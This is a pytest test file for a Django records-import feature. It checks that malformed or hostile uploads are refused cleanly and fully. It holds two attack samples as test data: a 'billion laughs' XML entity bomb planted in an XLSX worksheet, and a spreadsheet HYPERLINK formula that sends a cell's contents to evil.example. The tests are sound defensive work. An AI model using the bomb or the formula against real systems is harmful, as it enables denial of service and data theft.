"""Bad or hostile files through the import, by command and by browser upload.

Each: a clear message naming the problem, or a correct import; never a crash (500), a hang or a partial write.
"""

from __future__ import annotations

import csv
import html
import io
import struct
import time
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import translation

from clients.exchange import dataset_export, dataset_import
from clients.models import Client, Provider, Staff
from plans.models import Contact
from tests.clients.exchange_helpers import HEADERS, client_row, contact_row, read_rows, small_folder, write_rows

from .import_data import big_folder

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _english_and_media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    with translation.override("en"):
        yield


@pytest.fixture
def manager_client(client, manager):
    client.cookies["django_language"] = "en"
    client.force_login(manager)
    return client


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )


def _recode(folder: Path, name: str, encoding: str) -> None:
    path = folder / f"{name}.csv"
    path.write_bytes(path.read_text(encoding="utf-8").encode(encoding))


def _nothing_written() -> None:
    assert Provider.objects.filter(code="LSK", name="Latvijas Sarkanais Krusts").count() <= 1  # the fixture's own
    assert Staff.objects.filter(staff_ref__in=["S1", "M1"]).count() == 0
    assert Client.objects.count() == 0
    assert Contact.objects.count() == 0


def _command_refuses(path: Path) -> str:
    with pytest.raises(CommandError) as refused:
        call_command("import_dataset", str(path))
    message = str(refused.value)
    assert "nothing was imported" in message
    return message


def _upload(manager_client, files: list[tuple[str, bytes]]):
    uploads = [SimpleUploadedFile(name, content) for name, content in files]
    response = manager_client.post(reverse("clients:import"), {"files": uploads})
    assert response.status_code == 200
    return html.unescape(response.content.decode())


def _folder_files(folder: Path) -> list[tuple[str, bytes]]:
    return [(p.name, p.read_bytes()) for p in sorted(folder.glob("*.csv"))]


# --- not CSV, wrong encoding ---------------------------------------------------------------------------------


def test_a_png_renamed_csv_is_refused_by_the_command_naming_the_file(tmp_path):
    folder = small_folder(tmp_path)
    (folder / "clients.csv").write_bytes(_png())
    assert "clients:-:-: The file is not UTF-8 text" in _command_refuses(folder)
    _nothing_written()


def test_a_png_renamed_csv_is_refused_in_the_browser_naming_the_file(manager_client, tmp_path):
    folder = small_folder(tmp_path)
    files = [(n, _png() if n == "clients.csv" else c) for n, c in _folder_files(folder)]
    assert "'clients.csv' is not a CSV text file." in _upload(manager_client, files)
    _nothing_written()


@pytest.mark.parametrize("encoding", ["latin-1", "utf-16"])
def test_a_csv_not_in_utf8_is_refused_by_the_command_naming_the_file(tmp_path, encoding):
    folder = small_folder(tmp_path, staff=[HEADERS_ROW_LATIN])
    _recode(folder, "staff", encoding)
    assert "staff:-:-: The file is not UTF-8 text; save it as CSV UTF-8." in _command_refuses(folder)
    _nothing_written()


@pytest.mark.parametrize(("encoding", "message"), [("latin-1", "not UTF-8 text"), ("utf-16", "is not a CSV text")])
def test_a_csv_not_in_utf8_is_refused_in_the_browser(manager_client, tmp_path, encoding, message):
    folder = small_folder(tmp_path, staff=[HEADERS_ROW_LATIN])
    _recode(folder, "staff", encoding)
    page = _upload(manager_client, _folder_files(folder))
    assert message in page
    assert "staff" in page
    assert reverse("clients:import_confirm") not in page
    _nothing_written()


HEADERS_ROW_LATIN = {
    "staff_ref": "S1",
    "first_name": "José",
    "last_name": "Müller",
    "role": "social_worker",
    "provider": "LSK",
    "email": "",
}


# --- 50 MB ---------------------------------------------------------------------------------------------------


def test_a_50_mb_upload_is_refused_by_its_size_before_it_is_read(manager_client, tmp_path, monkeypatch):
    from django.core.files.uploadedfile import UploadedFile

    read: list[str] = []
    original = UploadedFile.read if hasattr(UploadedFile, "read") else None
    monkeypatch.setattr(
        "django.core.files.uploadedfile.TemporaryUploadedFile.read",
        lambda self, *a: read.append(self.name) or b"",
        raising=False,
    )
    del original
    content = b"contact_ref,date,staff_ref,family_ref,client_refs,form,duration_minutes,topics,note\r\n"
    content += b"K1,2022-02-01,M1,,C1,in_person,60,health," + b"x" * (50 * 1024 * 1024) + b"\r\n"
    began = time.monotonic()
    page = _upload(manager_client, [("contacts.csv", content)])
    assert time.monotonic() - began < 30
    assert "The files are too large: at most 20" in page
    assert read == []
    _nothing_written()


def test_a_50_mb_file_given_to_the_command_is_refused_with_a_message_not_a_crash(tmp_path):
    folder = small_folder(tmp_path)
    rows = read_rows(folder, "contacts")
    rows[0]["note"] = "x" * (50 * 1024 * 1024)
    write_rows(folder, "contacts", rows)
    began = time.monotonic()
    message = _command_refuses(folder)
    assert time.monotonic() - began < 120
    assert "contacts:-:-: The file is not valid CSV: field larger than field limit" in message
    _nothing_written()


# --- an XML bomb inside an XLSX ------------------------------------------------------------------------------

BOMB = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10))
    + ']>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
)


def _workbook_of(folder: Path) -> bytes:
    """The folder as a workbook, every cell a text cell (a formula typed as text stays text)."""
    workbook = openpyxl.Workbook()
    workbook.remove(workbook.active)
    for path in sorted(folder.glob("*.csv")):
        sheet = workbook.create_sheet(path.stem)
        with open(path, encoding="utf-8", newline="") as stream:
            for number, row in enumerate(csv.reader(stream), start=1):
                for column, value in enumerate(row, start=1):
                    cell = sheet.cell(row=number, column=column)
                    cell.value = value
                    cell.data_type = "s"
    stream = io.BytesIO()
    workbook.save(stream)
    return stream.getvalue()


def _with_bomb(xlsx: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename.startswith("xl/worksheets/sheet"):
                data = BOMB.encode()
            target.writestr(item, data)
    return out.getvalue()


def test_openpyxl_reads_workbooks_through_defusedxml():
    assert openpyxl.DEFUSEDXML is True


def test_an_xml_bomb_in_a_workbook_is_refused_by_the_command(tmp_path):
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(_with_bomb(_workbook_of(small_folder(tmp_path))))
    began = time.monotonic()
    message = _command_refuses(path)
    assert time.monotonic() - began < 10
    assert "is not an XLSX workbook" in message or "could not be read" in message
    _nothing_written()


def test_an_xml_bomb_in_a_workbook_is_refused_in_the_browser(manager_client, tmp_path):
    began = time.monotonic()
    page = _upload(manager_client, [("records.xlsx", _with_bomb(_workbook_of(small_folder(tmp_path))))])
    assert time.monotonic() - began < 10
    assert "is not an XLSX workbook" in page or "could not be read" in page
    _nothing_written()


# --- formulas ------------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_a_formula_is_stored_as_text_on_import_and_escaped_on_export(tmp_path):
    folder = small_folder(tmp_path, contacts=[contact_row("K1", note=FORMULA)])
    result = dataset_import(path=folder)
    assert result.errors == []
    assert Contact.objects.get().note == FORMULA
    out = tmp_path / "out"
    dataset_export(path=out)
    assert read_rows(out, "contacts")[0]["note"] == "'" + FORMULA
    dataset_export(path=tmp_path / "out.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx")["contacts"]
    cell = sheet.cell(row=2, column=HEADERS["contacts"].index("note") + 1)
    assert cell.data_type == "s"
    assert cell.value == "'" + FORMULA


def test_a_formula_in_an_uploaded_workbook_is_stored_as_text(manager_client, tmp_path):
    folder = small_folder(tmp_path, contacts=[contact_row("K1", note=FORMULA)])
    page = _upload(manager_client, [("records.xlsx", _workbook_of(folder))])
    assert "Import preview" in page
    manager_client.post(reverse("clients:import_confirm"))
    assert Contact.objects.get().note == FORMULA


# --- a 100,000-character cell --------------------------------------------------------------------------------


def test_a_100000_character_name_is_refused_naming_the_cell(tmp_path):
    folder = small_folder(tmp_path, clients=[client_row("C1", first_name="A" * 100_000), client_row("C2")])
    message = _command_refuses(folder)
    assert "clients:2:first_name: At most 100 characters." in message
    _nothing_written()


def test_a_100000_character_note_is_stored_whole(tmp_path, manager_client):
    note = "Ā" * 100_000
    folder = small_folder(tmp_path, contacts=[contact_row("K1", note=note)])
    page = _upload(manager_client, _folder_files(folder))
    assert "Import preview" in page
    manager_client.post(reverse("clients:import_confirm"))
    assert Contact.objects.get().note == note


# --- 100,000 rows --------------------------------------------------------------------------------------------


@pytest.mark.services
def test_100000_rows_with_a_bad_last_row_are_refused_whole_in_bounded_time(postgres, tmp_path):
    # About two minutes on two cores: every row is checked, so that every error is named; none is kept.
    folder = big_folder(tmp_path, clients=100_000, contacts=1)
    rows = read_rows(folder, "clients")
    rows[-1]["birth_date"] = "17.05.1990"
    write_rows(folder, "clients", rows)
    began = time.monotonic()
    result = dataset_import(path=folder)
    assert time.monotonic() - began < 300
    assert [(e.file, e.row, e.column) for e in result.errors] == [("clients", 100_001, "birth_date")]
    _nothing_written()
